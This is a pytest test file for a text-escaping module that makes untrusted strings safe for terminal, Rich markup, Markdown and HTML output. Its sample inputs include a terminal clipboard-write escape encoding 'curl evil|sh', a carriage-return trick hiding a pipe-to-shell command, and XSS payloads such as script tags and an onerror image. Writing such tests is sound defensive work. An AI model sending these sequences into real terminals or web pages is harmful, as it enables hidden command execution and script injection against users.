"""Outside strings are made safe for the place they are shown: terminal, markup, Markdown, HTML."""

from __future__ import annotations

import pytest
from rich.console import Console
from rich.text import Text

from specadvisor import textsafe

HOSTILE = [
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07",  # OSC 52: write the clipboard
    "\x1b[2J\x1b[Hcleared",  # clear the screen
    "harmless\rcurl evil | sh",  # \r hides the start of the line
    "line one\nforged line",
    "bidi \u202eevil\u202c",
    "nul\x00 del\x7f c1\x9b",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_line_leaves_no_control_character(value):
    out = textsafe.line(value)
    assert all(ch.isprintable() for ch in out), repr(out)
    assert "\n" not in out and "\r" not in out


def test_line_shows_what_was_hidden():
    assert textsafe.line("ok\rcurl x|sh") == "ok\\rcurl x|sh"
    assert textsafe.line("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert textsafe.line("x" * 50, 10) == "x" * 9 + "…"


@pytest.mark.parametrize("value", ["[/]", "[link=https://evil.example]click[/link]", "[@click=app.quit]x[/]", "[bold red]shout"])
def test_markup_renders_literally(value):
    console = Console(file=None, width=200, record=True, color_system=None)
    console.print(textsafe.markup(value))
    assert console.export_text().rstrip("\n") == value
    assert Text.from_markup(textsafe.markup(value)).plain == value


@pytest.mark.parametrize(
    "value, forbidden",
    [
        ("<script>alert(1)</script>", "<script>"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("[click](javascript:alert(1))", "[click]("),
        ("a | b | c", " | "),
        ("# Heading", "^#"),
        ("- item", "^-"),
        ("x\n## Forged section", "\n"),
    ],
)
def test_markdown_escapes(value, forbidden):
    out = textsafe.markdown(value)
    if forbidden.startswith("^"):  # a block marker: only the start of the line matters
        assert not out.startswith(forbidden[1:])
    else:
        assert forbidden not in out


def test_markdown_block_cannot_be_closed_from_inside():
    block = textsafe.markdown_block("echo ```\n<script>", "sh")
    assert block[0] == "````sh" and block[-1] == "````"
    assert block[1:-1] == ["echo ```", "<script>"]


def test_html_escapes():
    assert textsafe.html('<b a="1">&') == "&lt;b a=&quot;1&quot;&gt;&amp;"
    assert "\x1b" not in textsafe.html("\x1b[2J")


@pytest.mark.parametrize("value", ["0.26.0", "1. not a list", "2) not a list either", "# not a heading", "- not an item", "+ x", "> not a quote", "==="])
def test_markdown_renders_as_the_same_text_in_commonmark(value):
    """Escaped text renders as itself: a backslash before a digit is shown literally by CommonMark
    (the report printed `\\0.26.0`), so only the punctuation of a block marker is escaped."""
    import html

    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").render(textsafe.markdown(value))
    assert rendered == f"<p>{html.escape(value, quote=False)}</p>\n"


def test_markdown_keeps_an_arrow_readable_and_escapes_a_leading_quote():
    """Issue 41: the Markdown report read '100.0 -&gt; 97.0 tok/s' in the file."""
    assert textsafe.markdown("the baseline moved (100.0 -> 97.0 tok/s)") == "the baseline moved (100.0 -> 97.0 tok/s)"
    assert textsafe.markdown("> quoted") == "\\> quoted" and textsafe.markdown("> cell", block_start=False) == "> cell"
    assert textsafe.markdown("<script>x</script>") == "&lt;script>x&lt;/script>"
